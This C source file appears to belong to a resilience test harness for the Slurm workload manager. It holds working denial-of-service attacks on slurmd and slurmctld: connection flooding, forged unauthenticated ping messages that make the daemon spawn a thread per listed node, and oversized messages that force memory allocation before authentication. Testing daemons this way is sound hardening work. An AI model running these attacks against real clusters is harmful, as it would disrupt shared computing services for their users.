/* SPDX-License-Identifier: Apache-2.0 */
/* What takes threads or memory of slurmd, or slurmctld, before it knows who asks. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

/* More than the processes and threads that a container of a node may have. */
#define CONNECTIONS 17000
#define HOLD_S 8
/* Some releases take few at a time. */
#define CONNECT_S 60
#define MESSAGES 300
/* MiB each. */
#define PARTS 120
#define LARGE_MESSAGES 5
#define REQUEST_PING 1008

static int connect_to(const char *host, const char *port)
{
	struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons((uint16_t)given_number(port)) };
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0)
		broken("socket: %s", strerror(errno));
	if (inet_pton(AF_INET, host, &address.sin_addr) != 1)
		broken("%s is no address", host);
	if (connect(fd, (struct sockaddr *)&address, sizeof(address)))
		escaped("%s takes no connections at %s any more: %s", host, port, strerror(errno));
	return fd;
}

static int connect_to_slurmd(void)
{
	return connect_to("127.0.0.1", "SLURMD_PORT");
}

static void hold_connections(void)
{
	struct rlimit limit;

	if (getrlimit(RLIMIT_NOFILE, &limit) || limit.rlim_max < CONNECTIONS + 16)
		absent("a limit of open files that allows it");
	limit.rlim_cur = limit.rlim_max;
	setrlimit(RLIMIT_NOFILE, &limit);
	time_t until = time(NULL) + CONNECT_S;
	int taken = 0;
	for (; taken < CONNECTIONS && time(NULL) < until; taken++)
		(void)connect_to_slurmd();
	sleep(HOLD_S);
	(void)connect_to_slurmd();
	errno = 0;
	held("slurmd took %d connections", taken);
}

static unsigned char message[256];
static size_t size;

static void add(uint32_t number, size_t bytes)
{
	for (size_t i = bytes; i-- > 0;)
		message[size++] = (unsigned char)(number >> 8 * i);
}

/* Slurm's header; there is no credential behind it. */
static void send_to_pass_on(const char *names, unsigned nodes)
{
	size = 4;
	add((uint32_t)given_number("PROTOCOL") << 8, 2);
	add(0, 2);
	add(REQUEST_PING, 2);
	add(0, 4);
	add(nodes, 2);
	add((uint32_t)strlen(names) + 1, 4);
	memcpy(message + size, names, strlen(names) + 1);
	size += strlen(names) + 1;
	add(0, 4);
	add(UINT16_MAX, 2);
	add(0, 8);
	size_t all = size;
	size = 0;
	add((uint32_t)all - 4, 4);
	for (int i = 0; i < MESSAGES; i++)
		if (send(connect_to_slurmd(), message, all, MSG_NOSIGNAL) < 0)
			held("send");
}

/* For each node a thread. */
static void pass_to_many(void)
{
	send_to_pass_on("x[1-60000]", 60000);
	sleep(HOLD_S);
	(void)connect_to_slurmd();
	errno = 0;
	held("slurmd goes on");
}

/* One thread waits for answers of nodes that it does not ask. */
static void pass_to_fewer(void)
{
	send_to_pass_on("x1", 2);
	errno = 0;
	held("slurmd goes on");
}

/* A daemon makes room for a message before it has seen who sends it. */
static void send_large_to(const char *host, const char *port)
{
	static char part[1 << 20];
	const struct timeval patience = { .tv_sec = 2 };

	size = 0;
	add((PARTS << 20) + 16, 4);
	add((uint32_t)given_number("PROTOCOL") << 8, 2);
	add(0, 2);
	add(REQUEST_PING, 2);
	add(PARTS << 20, 4);
	add(0, 6);
	for (int i = 0; i < LARGE_MESSAGES; i++) {
		int fd = connect_to(host, port);
		if (setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof(patience)))
			broken("setsockopt");
		ssize_t sent = send(fd, message, size, MSG_NOSIGNAL);
		for (int n = 0; n < PARTS - 1 && sent > 0; n++)
			sent = send(fd, part, sizeof(part), MSG_NOSIGNAL);
	}
	printf("sent\n");
	fflush(stdout);
	sleep(HOLD_S);
	errno = 0;
	held("it goes on");
}

static void send_large(void)
{
	send_large_to("127.0.0.1", "SLURMD_PORT");
}

static void send_large_to_slurmctld(void)
{
	send_large_to(given("SLURMCTLD_ADDRESS"), "SLURMCTLD_PORT");
}

const struct attack request_attacks[] = {
	{ "send-large", send_large },
	{ "send-large-to-slurmctld", send_large_to_slurmctld },
	{ "hold-connections", hold_connections },
	{ "pass-to-many", pass_to_many },
	{ "pass-to-fewer", pass_to_fewer },
	{ NULL, NULL },
};
